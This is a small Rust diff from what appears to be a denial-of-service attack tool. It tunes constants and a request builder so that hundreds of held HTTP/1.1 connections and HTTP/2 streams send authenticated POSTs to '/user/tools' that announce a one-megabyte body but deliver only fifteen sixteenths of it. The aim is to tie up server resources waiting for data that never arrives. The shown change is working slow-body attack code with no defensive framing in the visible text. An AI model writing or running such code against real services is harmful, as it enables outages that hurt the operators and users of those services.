@@ -15,8 +15,8 @@ const CONNECTIONS: u16 = 60;
 const STREAMS: usize = 100;
 /// A body.
 const BYTES: usize = 1 << 20;
-/// All of it but its last byte.
-const PARTS: [&[u8]; 16] = [&[b' '; BYTES / 16]; 16];
+/// All of it but its last sixteenth.
+const PARTS: [&[u8]; 15] = [&[b' '; BYTES / 16]; 15];
 /// Bodies of an account by HTTP/1.1, and connections of HTTP/2 that carry as many again.
 const HELD: u16 = 500;
 const HELD_STREAMS: u16 = 5;
@@ -52,7 +52,7 @@ pub fn of_a_key(target: Arc<Target>) -> Future<Result<Strike, String>> {
         Ok(Box::pin(async move {
             let (to, mut tasks) = (target.address, JoinSet::new());
             for _ in 0..HELD {
-                let head = head("POST", "/user/tools", &key, "application/json", BYTES + 1);
+                let head = head("POST", "/user/tools", &key, "application/json", BYTES);
                 tasks.spawn(hold(to, address(1), PARTS.to_vec(), head));
             }
             for _ in 0..HELD_STREAMS {
